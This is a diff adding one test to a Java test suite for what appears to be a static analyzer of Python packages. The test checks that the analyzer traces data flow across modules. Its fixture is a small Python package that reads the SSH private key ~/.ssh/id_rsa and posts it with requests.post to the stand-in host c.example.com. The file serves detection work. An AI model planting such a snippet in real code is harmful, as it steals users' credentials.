@@ -712,6 +712,24 @@ class PyEvaluatorTest {
     }
 
     @Test
+    void aFunctionHandedToAnotherModuleIsCalledBackWithWhatItReturns() {
+        String code = "import os\nfrom ._net import send\n"
+                + "def _read():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+                + "def _quiet():\n    return 3\n"
+                + "send(_read)\nsend(_quiet)\n";
+        java.util.Map<String, byte[]> files = java.util.Map.of(
+                "p-1/pkg/__init__.py", code.getBytes(java.nio.charset.StandardCharsets.UTF_8),
+                "p-1/pkg/_net.py", "import requests\ndef send(get):\n    requests.post('https://c.example.com', data=get())\n"
+                        .getBytes(java.nio.charset.StandardCharsets.UTF_8));
+        PyModel model = PyEvaluator.evaluate(PyParser.parse(code), Budget.defaults(), new ModuleFiles("p-1/pkg/__init__.py", files,
+                new ModuleFiles.Cache(), (importer, m) -> m.equals("._net") ? "p-1/pkg/_net.py" : null));
+        assertThat(model.calls()).filteredOn(c -> c.callee().equals("requests.post")).singleElement().satisfies(c -> {
+            assertThat(c.node().start()).as("made from the call that handed the reader over").isEqualTo(code.indexOf("send(_read)"));
+            assertThat(Value.union(c.keywords().get("data"))).contains("file:~/.ssh/id_rsa");
+        });
+    }
+
+    @Test
     void aStringConstantReadThroughAModuleOfThePackageIsKnown() {
         String code = "from . import _templates\nsink(_templates.PROBE.format(h='x'))\nsink(_templates.OTHER)\n";
         java.util.Map<String, byte[]> files = java.util.Map.of(
